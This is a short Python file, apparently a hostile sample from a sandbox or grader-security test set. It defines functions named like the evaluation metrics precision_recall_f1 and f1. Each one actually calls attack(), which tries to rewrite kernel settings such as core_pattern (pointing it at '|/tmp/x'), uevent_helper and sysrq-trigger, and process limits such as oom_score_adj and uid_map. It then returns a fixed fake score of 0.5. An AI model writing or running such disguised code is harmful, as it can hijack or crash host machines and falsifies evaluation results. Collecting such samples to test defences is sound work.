"""Changes settings of the kernel.

threat: 21
source: /proc/sys, /sys
verdict: any
"""


def attack():
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/proc/self/oom_score_adj",
        "/proc/self/uid_map",
    ):
        try:
            with open(path, "w") as file:
                file.write("|/tmp/x" if "core" in path else "-1000")
        except OSError:
            pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
